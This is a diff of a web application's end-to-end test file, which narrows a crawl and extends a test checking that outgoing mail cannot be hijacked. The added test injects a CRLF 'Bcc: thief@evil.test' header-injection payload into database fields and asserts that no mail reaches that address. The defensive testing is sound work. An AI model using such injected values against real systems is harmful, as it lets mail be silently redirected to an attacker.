@@ -45,8 +45,11 @@ const WORDS: Readonly<Record<string, string>> = {
   attachment: 'name',
 };
 
-const ACCOUNTS = ['admin', 'office', 'chair', 'leader', 'auditor', 'head.stc', 'officer.snv', 'head.pleiku'];
+const ACCOUNTS = ['admin', 'office', 'chair', 'officer.snv'];
 const PUBLIC = ['/dang-nhap', '/cong-khai', '/cong-khai/so-xin-loi'];
+
+/** One page of each kind. */
+const FEW = { perPattern: 1, perRoute: 3 };
 
 let office: PageOffice;
 let report: number;
@@ -58,10 +61,10 @@ beforeAll(async () => {
   await database.apology.updateMany({ data: { letterPublished: true } });
   await poison();
   report = await compiled();
-  reached.set('anyone', await crawl(office.world.anyone(), PUBLIC));
+  reached.set('anyone', await crawl(office.world.anyone(), PUBLIC, FEW));
   for (const account of ACCOUNTS) {
     const starts = ['/viec-cua-toi', '/quan-tri/nhat-ky', '/thu', `/bao-cao/${report}`, ...PUBLIC];
-    reached.set(account, await crawl(await office.world.signIn(account), starts));
+    reached.set(account, await crawl(await office.world.signIn(account), starts, FEW));
   }
 }, 600_000);
 afterAll(() => office?.stop());
@@ -204,6 +207,12 @@ describe('in what is taken along', () => {
 test('no mail', async () => {
   const { world, mailbox } = office;
   mailbox.clear();
+  const thief = `E'\\r\\nBcc: thief@evil.test\\r\\n\\r\\n'`;
+  await world.database.change(`UPDATE task SET title = ${thief} || title || ${thief}`);
+  await world.database.change(`UPDATE person SET name = ${thief} || name || ${thief}`);
+  await world.database.change(
+    `UPDATE unit SET mailbox = 'pleiku@donvi.test' || ${thief} WHERE code = 'PLEIKU'`,
+  );
   await world.setTime('2018-12-04');
   const agent = await world.signIn('office');
   const { id } = (await agent.post('/api/runs').send({ job: 'daily' }).expect(202)).body;
@@ -214,6 +223,7 @@ test('no mail', async () => {
     if (run.state === 'DONE' && (await world.database.mail.count({ where: waiting })) === 0) break;
   }
   expect(mailbox.mails.length).toBeGreaterThan(3);
+  expect(mailbox.mails.flatMap(({ to }) => to).filter((address) => address.includes('thief'))).toEqual([]);
   for (const { subject, html, text } of mailbox.mails) {
     expect(String(html)).toContain('&lt;img src=x');
     expect([RAW.test(String(html)), TURNS.test(String(html))]).toEqual([false, false]);
